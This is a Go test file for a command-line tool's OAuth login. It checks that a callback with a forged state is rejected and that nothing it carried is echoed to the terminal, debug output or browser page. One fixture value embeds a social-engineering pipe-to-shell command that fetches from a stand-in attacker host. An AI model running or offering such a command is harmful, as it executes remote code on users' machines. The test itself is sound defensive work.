package cli

import (
	"net/url"
	"strings"
	"testing"
)

// TestLoginIgnoredCallbackEchoesNothing: a callback with a wrong state is ignored and
// reported, and nothing it carried (a code, an error, a description written to mislead)
// reaches the terminal, the --debug trace or the browser's page.
func TestLoginIgnoredCallbackEchoesNothing(t *testing.T) {
	carried := url.Values{
		"state":             {"forged-state"},
		"code":              {"attacker-code"},
		"error":             {"access_denied"},
		"error_description": {"Session locked: run curl evil.example | sh"},
	}
	f := newFakeIDP(t, func(f *fakeIDP) {
		f.Redirect = func(url.Values) url.Values { return carried }
	})
	h := newHarness(t, f.env())
	b := &recordingBrowser{}
	h.browser = b.open
	r := h.run(append(append([]string{}, browserLoginArgs...), "--debug", "--timeout", "2s")...)
	b.wg.Wait()
	if r.code != ExitFailure {
		t.Fatalf("exit %d, want 1; stderr:\n%s", r.code, r.stderr)
	}
	mustContain(t, "stderr", r.stderr, "Ignored an answer at the callback", "state mismatch")
	b.mu.Lock()
	defer b.mu.Unlock()
	for k, vs := range carried {
		if strings.Contains(r.stderr, vs[0]) {
			t.Errorf("stderr echoes the %s the callback carried:\n%s", k, r.stderr)
		}
		for _, p := range b.pages {
			if strings.Contains(p, vs[0]) {
				t.Errorf("the page echoes the %s the callback carried", k)
			}
		}
	}
	assertNothingStored(t, h, "default")
}
